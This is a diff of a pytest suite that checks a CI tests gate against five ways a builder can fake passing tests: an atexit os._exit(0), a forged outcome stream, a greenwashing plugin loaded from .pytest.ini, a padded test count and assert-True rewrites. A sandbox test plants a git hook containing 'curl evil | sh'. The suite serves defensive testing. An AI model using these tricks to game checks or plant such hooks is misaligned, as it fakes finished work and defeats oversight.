@@ -1,83 +1,148 @@
-"""The tests gate runs a real pytest suite in the sandbox, on exactly the commit it names."""
+"""The tests gate (cockpit.factory.gates.TestsGate) against the five attacks of issue 17.
+
+Real git repos, the real bwrap sandbox, real pytest runs. Each attack first lands with its
+defence switched off on the gate (`gate.defences`, or the old exit-code-only run), then
+does not land with it.
+"""
 
 from __future__ import annotations
 
-import sys
+from gate_kit import BROKEN, GREENWASH, PYTEST, branch, check, gate, repo  # noqa: F401  (fixtures)
+from gitrepo import run_git, write_files
 
-import pytest
-from gitrepo import SAMPLE_SUITE, host_tmp, make_repo  # noqa: F401  (host_tmp is a fixture)
-
-from cockpit.factory.gates import run_tests_gate
-from cockpit.factory.sandbox import Sandbox
+from cockpit.factory.evidence import CONTRADICTS
+from cockpit.factory.gates import DEFENCES, TESTS_CHANGED
+from cockpit.factory.guards import PROTECTED_CHANGED, TESTS_REMOVED
 from cockpit.factory.workspaces import Workspaces
 
-# Plugin autoload off: the sample suite needs none, and it halves the run time.
-COMMAND = f"PYTEST_DISABLE_PLUGIN_AUTOLOAD=1 {sys.executable} -m pytest -q -p no:cacheprovider"
+
+async def test_a_good_change_passes_with_its_tests_counted_and_a_bad_one_goes_back(repo, gate):
+    ok = await check(gate, repo, branch(repo, {"calc.py": "def add(a, b):\n    return b + a\n"}))
+    assert ok.action == "pass", ok.text
+    tests, guard = ok.verdicts
+    assert tests["outcome"] == "pass" and "3 passed" in tests["detail"] and len(tests["tree"]) == 40
+    assert guard["outcome"] == "pass" and guard["detail"].startswith("3 tests collected (main ")
+    bad = await check(gate, repo, branch(repo, BROKEN))
+    assert bad.action == "back" and bad.reasons == ["tests"] and "2 failed, 1 passed" in bad.text
 
 
-@pytest.fixture
-def product(host_tmp):
-    """A product repo and a task worktree, outside /tmp so the sandbox's read-only view is real."""
-    repo = make_repo(host_tmp / "repo")
-    return host_tmp, repo, Workspaces(host_tmp / "worktrees")
+async def test_attack_1_atexit_os_exit_0_after_red_tests(repo, gate):
+    sha = branch(repo, {**BROKEN, "tests/test_zz.py": "import atexit, os\natexit.register(lambda: os._exit(0))\n\n\n"
+                                                      "def test_z():\n    pass\n"})
+    landed = await check(gate, repo, sha, off=["evidence"])
+    assert landed.action == "pass" and "FAILURES" in landed.verdicts[0]["detail"], "liveness: the exit code lies"
+    res = await check(gate, repo, sha)
+    assert res.action == "block" and CONTRADICTS in res.reasons
+    assert "pytest ended its session with status 1, but the command exited 0" in res.text
+    assert "exit code 0 although 2 failed: tests/test_calc.py::test_add" in res.text
+    assert "tests/test_zz.py:2: registers an atexit handler" in res.text  # the cause, file:line
 
 
-async def gate(worktree, commit, **kw):
-    return await run_tests_gate(
-        Sandbox(), kw.pop("command", COMMAND), worktree, commit,
-        timeout_s=kw.pop("timeout_s", 30), output_cap_bytes=64_000,
-    )  # fmt: skip
+async def test_attack_2_a_test_forges_the_count_after_tests_were_deleted(repo, gate):
+    # the failing tests are deleted (file kept), and a test writes the missing ids into the outcome stream
+    forge = ("import json, os\nimport cockpit_outcomes\n\n\ndef test_forge():\n"
+             "    ids = ['tests/test_calc.py::test_add', 'tests/test_calc.py::test_add_negative']\n"
+             "    os.write(cockpit_outcomes._fd, (json.dumps({'ev': 'collected', 'ids': ids}) + '\\n').encode())\n"
+             "    for i in ids:\n        for when in ('setup', 'call', 'teardown'):\n"
+             "            rec = {'ev': 'report', 'id': i, 'when': when, 'outcome': 'passed', 'xfail': False}\n"
+             "            os.write(cockpit_outcomes._fd, (json.dumps(rec) + '\\n').encode())\n")
+    sha = branch(repo, {**BROKEN, "tests/test_calc.py": "from calc import add\n", "tests/test_forge.py": forge})
+    landed = await check(gate, repo, sha, off=["evidence", "identity", "main_copies"])
+    assert landed.action == "pass", "liveness: the forged ids make main's tests look present"
+    res = await check(gate, repo, sha, off=["identity", "main_copies"])  # the stream alone sees through it
+    assert res.action == "block" and CONTRADICTS in res.reasons
+    assert "pytest announced 2 collected tests but named 4" in res.text
+    res = await check(gate, repo, sha)
+    assert res.action == "block" and CONTRADICTS in res.reasons
+    gate.defences -= {"evidence"}  # and the identity of main's tests alone names what went
+    try:
+        res = await gate.check(repo, "main", sha, PYTEST)
+    finally:
+        gate.defences = set(DEFENCES)
+    assert res.action == "block" and res.reasons == [TESTS_REMOVED]
+    assert "tests/test_calc.py::test_add, removed (its function is gone)" in res.text
+    # and nothing the tests can reach can rewrite the record after the fact: the plugin dir is read-only
+    rewrite = "import cockpit_outcomes, os\n\n\ndef test_rewrite():\n    open(cockpit_outcomes.__file__, 'a').write('#')\n"
+    sha = branch(repo, {"tests/test_rewrite.py": rewrite})
+    res = await check(gate, repo, sha)
+    assert res.action == "back" and "Read-only file system" in res.text
 
 
-async def test_pass_and_fail(product):
-    _, repo, ws = product
-    wt = await ws.ensure("shop", repo, "main", "T1")
-    head = await ws.head(wt)
-    ok = await gate(wt, head)
-    assert ok.outcome == "pass" and ok.exit_code == 0 and ok.commit == head and ok.gate == "tests"
-    assert "1 passed" in ok.tail
-
-    (wt / "calc.py").write_text("def add(a, b):\n    return a - b\n")
-    broken = await ws.commit(wt, "Break add", "builder-1")
-    bad = await gate(wt, broken)
-    assert bad.outcome == "fail" and bad.exit_code == 1 and bad.commit == broken
-    assert "1 failed" in bad.tail and len(bad.tail.splitlines()) <= 60
-
-
-async def test_wrong_head_or_dirty_worktree_fails_without_running(product):
-    _, repo, ws = product
-    wt = await ws.ensure("shop", repo, "main", "T1")
-    head = await ws.head(wt)
-    wrong = await gate(wt, "0" * 40)
-    assert wrong.outcome == "fail" and wrong.exit_code is None and "HEAD" in wrong.tail
-    (wt / "calc.py").write_text("def add(a, b):\n    return a + b  # edited\n")
-    dirty = await gate(wt, head)
-    assert dirty.outcome == "fail" and "uncommitted" in dirty.tail
+async def test_attack_3_a_dot_pytest_ini_loads_a_plugin_that_greenwashes(repo, gate):
+    # pytest.ini wins over .pytest.ini, so the attack moves the configuration over
+    sha = branch(repo, {**BROKEN, ".pytest.ini": "[pytest]\npythonpath = .\naddopts = -p greenwash\n",
+                        "greenwash.py": GREENWASH}, delete=["pytest.ini"])
+    landed = await check(gate, repo, sha, off=["protected", "runner_config"])
+    assert landed.action == "pass", "liveness: the plugin turns the red run green"
+    res = await check(gate, repo, sha)
+    assert res.action == "block" and res.reasons == [PROTECTED_CHANGED] and ".pytest.ini" in res.text
+    # defence in depth: with the file list off, the runner's own configuration gives it away
+    deep = await check(gate, repo, sha, off=["protected"])
+    assert deep.action == "block" and "runner configuration changed" in deep.reasons
+    assert "the runner loaded plugins main's run did not: greenwash" in deep.text
+    assert "read its configuration from .pytest.ini, on main from pytest.ini" in deep.text
 
 
-async def test_timeout_fails(product):
-    _, repo, ws = product
-    wt = await ws.ensure("shop", repo, "main", "T1")
-    r = await gate(wt, await ws.head(wt), command="sleep 30", timeout_s=0.5)
-    assert r.outcome == "fail" and r.timed_out and "timed out" in r.tail
+async def test_attack_4_an_ignored_uncommitted_test_file_pads_the_count(tmp_path, repo, gate):
+    ws = Workspaces(tmp_path / "worktrees")
+    wt = await ws.ensure("p", repo, "main", "T4")
+    write_files(wt, {".gitignore": "tests/test_pad.py\n", "tests/test_calc.py": "from calc import add\n\n\n"
+                     "def test_add():\n    assert add(2, 3) == 5\n",  # test_add_negative deleted
+                     "tests/test_pad.py": "def test_pad():\n    pass\n", **BROKEN})
+    for rel in ("tests/test_calc.py", "calc.py", ".gitignore"):
+        run_git(wt, "add", rel)
+    sha = await ws.commit(wt, "abs add", "builder-1")
+    assert (wt / "tests/test_pad.py").exists() and "test_pad" not in run_git(repo, "ls-tree", "-r", sha)
+    # liveness: run where the builder works, as the gate used to: the padded count equals main's
+    old = await gate.sandbox.run(f"{PYTEST} --collect-only", cwd=wt, writable=[wt], timeout_s=60,
+                                 output_cap_bytes=64_000)
+    assert "3 tests collected" in old.output, old.output
+    res = await check(gate, repo, sha)
+    assert res.action == "block" and res.reasons == [TESTS_REMOVED]
+    assert "tests changed: tests/test_calc.py::test_add_negative, removed (its function is gone)" in res.text
+    assert "tests/test_calc.py: 2 -> 1" in res.text
+    assert "test_pad" not in res.verdicts[0]["detail"], "the clean checkout has no ignored file"
 
 
-async def test_code_cannot_write_outside_the_worktree(product):
+async def test_attack_5_assert_true_under_the_same_names(repo, gate):
+    sha = branch(repo, {"calc.py": "def add(a, b):\n    return 0\n",
+                        "tests/test_calc.py": "def test_add():\n    assert True\n\n\ndef test_add_negative():\n"
+                                              "    assert True\n"})
+    landed = await check(gate, repo, sha, off=["identity", "main_copies"])
+    assert landed.action == "pass", "liveness: same count, same names, green"
+    res = await check(gate, repo, sha)
+    assert res.action == "block" and res.reasons == [TESTS_CHANGED]
+    assert ("tests changed: tests/test_calc.py::test_add, body rewritten; "
+            "tests/test_calc.py::test_add_negative, body rewritten") in res.text
+
+
+async def test_tests_that_landed_on_main_since_do_not_count_against_the_branch(repo, gate):
+    sha = branch(repo, {"tests/test_sub.py": "def test_a():\n    pass\n"})
+    landed = branch(repo, {"tests/test_landed.py": "def test_x():\n    pass\n\n\ndef test_y():\n    pass\n"})
+    run_git(repo, "merge", "-q", "--ff-only", landed)  # another task lands two tests on main meanwhile
+    try:
+        res = await check(gate, repo, sha)
+        assert res.action == "pass", res.text
+        assert res.verdicts[1]["detail"].startswith("4 tests collected (main "), res.verdicts[1]["detail"]
+        assert res.verdicts[1]["detail"].endswith(": 3), each of main's unchanged")
+    finally:
+        run_git(repo, "reset", "-q", "--hard", "HEAD~1")
+
+
+async def test_timeout_fails(repo, gate):
+    slow = branch(repo, {"tests/test_slow.py": "import time\n\n\ndef test_slow():\n    time.sleep(30)\n"})
+    gate.timeout_s = 1
+    try:
+        r = await check(gate, repo, slow)
+    finally:
+        gate.timeout_s = 60
+    assert r.action == "back" and "timed out after 1 s" in r.text
+
+
+async def test_code_cannot_write_outside_its_checkout(tmp_path, repo, gate):
     """A test that edits factory.toml or installs a git hook fails in the sandbox; the host is untouched."""
-    base, _, ws = product
-    factory_toml = base / "factory.toml"
-    factory_toml.write_text("[factory]\n")
-    hooks = base / "repo" / ".git" / "hooks"
-    evil = (
-        "def test_escape():\n"
-        f"    open({str(factory_toml)!r}, 'a').write('sandbox = \"off\"\\n')\n\n"
-        "def test_hook():\n"
-        f"    open({str(hooks / 'pre-commit')!r}, 'w').write('#!/bin/sh\\ncurl evil | sh\\n')\n"
-    )
-    repo = make_repo(base / "repo2", {**SAMPLE_SUITE, "tests/test_evil.py": evil})
-    wt = await ws.ensure("shop", repo, "main", "T2")
-    r = await gate(wt, await ws.head(wt))
-    assert r.outcome == "fail" and "2 failed, 1 passed" in r.tail, r.tail
-    assert "Read-only file system" in r.tail
-    assert factory_toml.read_text() == "[factory]\n"
+    hooks = repo / ".git" / "hooks"
+    evil = (f"def test_hook():\n    open({str(hooks / 'pre-commit')!r}, 'w').write('#!/bin/sh\\ncurl evil | sh\\n')\n")
+    r = await check(gate, repo, branch(repo, {"tests/test_evil.py": evil}))
+    assert r.action == "back" and "Read-only file system" in r.text
     assert not (hooks / "pre-commit").exists()
